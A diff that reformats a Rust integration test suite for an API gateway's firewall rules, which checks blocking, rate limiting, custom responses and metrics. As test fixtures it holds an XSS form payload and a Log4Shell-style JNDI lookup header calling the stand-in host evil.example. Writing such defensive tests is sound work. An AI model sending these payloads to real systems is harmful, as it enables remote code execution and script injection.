@@ -37,7 +37,11 @@ async fn rules_block_count_and_log_over_tcp() -> TestResult {
             let xss = client::request(Method::POST, addr, "/orders")
                 .header("content-type", "application/x-www-form-urlencoded")
                 .body(TestBody::full("note=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"))?;
-            ensure_eq!(client::send(addr, xss).await?.status, 403, "XSS in a form body");
+            ensure_eq!(
+                client::send(addr, xss).await?.status,
+                403,
+                "XSS in a form body"
+            );
 
             let log4j = client::request(Method::GET, addr, "/products")
                 .header("x-api-version", "${jndi:ldap://evil.example/a}")
@@ -50,7 +54,11 @@ async fn rules_block_count_and_log_over_tcp() -> TestResult {
             let reply = client::send(addr, scanner).await?;
             ensure_eq!(reply.status, 406, "custom response status");
             ensure_eq!(reply.header("x-blocked-by"), Some("gwc"), "custom header");
-            ensure_eq!(reply.text(), r#"{"message":"scanners are not welcome"}"#, "custom body");
+            ensure_eq!(
+                reply.text(),
+                r#"{"message":"scanners are not welcome"}"#,
+                "custom body"
+            );
 
             let spoofed = client::request(Method::GET, addr, "/products")
                 .header("x-forwarded-for", "198.51.100.7")
@@ -62,14 +70,22 @@ async fn rules_block_count_and_log_over_tcp() -> TestResult {
             );
 
             for i in 1..=5 {
-                let order = client::request(Method::POST, addr, "/orders").body(TestBody::full("{}"))?;
+                let order =
+                    client::request(Method::POST, addr, "/orders").body(TestBody::full("{}"))?;
                 ensure_eq!(client::send(addr, order).await?.status, 200, "order {i}");
             }
-            let order = client::request(Method::POST, addr, "/orders").body(TestBody::full("{}"))?;
-            ensure_eq!(client::send(addr, order).await?.status, 403, "the sixth order in a minute");
+            let order =
+                client::request(Method::POST, addr, "/orders").body(TestBody::full("{}"))?;
+            ensure_eq!(
+                client::send(addr, order).await?.status,
+                403,
+                "the sixth order in a minute"
+            );
 
             let admin = gw.admin_addr().ok_or("no admin line")?;
-            let page = client::send(admin, client::get(admin, "/metrics")?).await?.text();
+            let page = client::send(admin, client::get(admin, "/metrics")?)
+                .await?
+                .text();
             for series in [
                 "gwc_waf_api_sql_sqli_queryarguments_blocked_total{api=\"shop\",stage=\"prod\",method=\"\",route=\"(unmatched)\"} 1",
                 "gwc_waf_post__orders_order_flood_blocked_total{api=\"shop\",stage=\"prod\",method=\"POST\",route=\"/orders\"} 1",
@@ -113,9 +129,22 @@ impl Drop for Redis {
 }
 
 fn redis() -> Option<Redis> {
-    let port = TcpListener::bind("127.0.0.1:0").ok()?.local_addr().ok()?.port();
+    let port = TcpListener::bind("127.0.0.1:0")
+        .ok()?
+        .local_addr()
+        .ok()?
+        .port();
     let child = Command::new("redis-server")
-        .args(["--port", &port.to_string(), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no"])
+        .args([
+            "--port",
+            &port.to_string(),
+            "--bind",
+            "127.0.0.1",
+            "--save",
+            "",
+            "--appendonly",
+            "no",
+        ])
         .stdout(Stdio::null())
         .stderr(Stdio::null())
         .spawn()
@@ -143,9 +172,14 @@ async fn rate_based_rules_are_shared_by_replicas_through_redis() -> TestResult {
     let mut statuses = Vec::new();
     for i in 0..6 {
         let gw = if i % 2 == 0 { &a } else { &b };
-        let order = client::request(Method::POST, gw.addr(), "/orders").body(TestBody::full("{}"))?;
+        let order =
+            client::request(Method::POST, gw.addr(), "/orders").body(TestBody::full("{}"))?;
         statuses.push(client::send(gw.addr(), order).await?.status.as_u16());
     }
-    ensure_eq!(statuses, vec![200, 200, 200, 200, 200, 403], "orders alternating between replicas");
+    ensure_eq!(
+        statuses,
+        vec![200, 200, 200, 200, 200, 403],
+        "orders alternating between replicas"
+    );
     Ok(())
 }
